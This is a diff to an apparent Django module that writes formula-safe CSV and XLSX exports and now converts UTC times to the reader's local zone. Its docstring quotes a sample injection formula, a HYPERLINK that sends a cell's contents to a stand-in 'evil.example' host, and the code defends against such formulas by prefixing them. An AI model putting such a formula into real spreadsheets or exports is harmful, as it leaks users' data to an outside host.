@@ -5,17 +5,28 @@ leading tab or carriage return the same way) as a formula: a name such as
 ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` recorded by a partner or typed in an
 upload would run on the analyst's machine. Following OWASP's rule, such a text cell is
 prefixed with a single quote, so it shows as the text it is. Numbers are left as numbers.
+
+Times are stored in UTC but exported in the reader's zone (the active one: the user's own,
+else the node's), each cell naming its zone (``2026-12-02 08:30:00 UTC+01``) and a column
+header's "(UTC)" replaced by the zone's name ("Updated (Africa/Casablanca)").
+An aware ``datetime`` is converted, and so is the text ``isoformat()`` gives for a UTC time,
+which the list exports used to write.
 """
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import re
 from collections.abc import Iterable, Sequence
 from typing import Any
 from urllib.parse import quote
 
 from django.http import HttpResponse
+from django.utils import timezone
+
+from jisr.core.timefmt import zone_label
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 #: The most rows one list export holds; a bigger list is narrowed with its filters first.
@@ -23,10 +34,24 @@ EXPORT_MAX_ROWS = 10_000
 EXPORT_FORMATS = ("csv", "xlsx")
 
 
+_UTC_ISO = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,6})?\+00:00")
+
+
+def local_time(value: dt.datetime) -> str:
+    """An aware time in the active zone, its zone named: ``2026-12-02 08:30:00 CET``."""
+    local = value.astimezone(timezone.get_current_timezone())
+    return f"{local:%Y-%m-%d %H:%M:%S} {zone_label(local)}"
+
+
 def safe_cell(value: Any) -> Any:
-    """``value`` made inert for a spreadsheet: text starting like a formula gets a ``'``."""
+    """``value`` made inert for a spreadsheet: text starting like a formula gets a ``'``;
+    a UTC time becomes the reader's local time with its zone named."""
     if value is None:
         return ""
+    if isinstance(value, dt.datetime) and timezone.is_aware(value):
+        return local_time(value)
+    if isinstance(value, str) and _UTC_ISO.fullmatch(value):
+        return local_time(dt.datetime.fromisoformat(value))
     if isinstance(value, bool | int | float):
         return value
     text = str(value)
@@ -37,6 +62,13 @@ def safe_cell(value: Any) -> Any:
 
 def safe_row(row: Iterable[Any]) -> list[Any]:
     return [safe_cell(value) for value in row]
+
+
+def header_row(header: Iterable[Any]) -> list[Any]:
+    """The column names, formula-safe, with "(UTC)" naming the zone the times are in now."""
+    zone = timezone.get_current_timezone()
+    name = f"({getattr(zone, 'key', str(zone))})"
+    return safe_row(str(h).replace("(UTC)", name) if h is not None else h for h in header)
 
 
 def content_disposition(filename: str, *, inline: bool = False) -> str:
@@ -53,7 +85,7 @@ def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]], *, bom: bool
     """The CSV text (UTF-8, with a BOM so spreadsheets read Arabic right) of formula-safe rows."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
-    writer.writerow(safe_row(header))
+    writer.writerow(header_row(header))
     for row in rows:
         writer.writerow(safe_row(row))
     return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")
@@ -67,7 +99,7 @@ def xlsx_bytes(
 
     book = Workbook(write_only=True)
     sheet = book.create_sheet(title=title[:31])
-    sheet.append(safe_row(header))
+    sheet.append(header_row(header))
     for row in rows:
         sheet.append(safe_row(row))
     buffer = io.BytesIO()
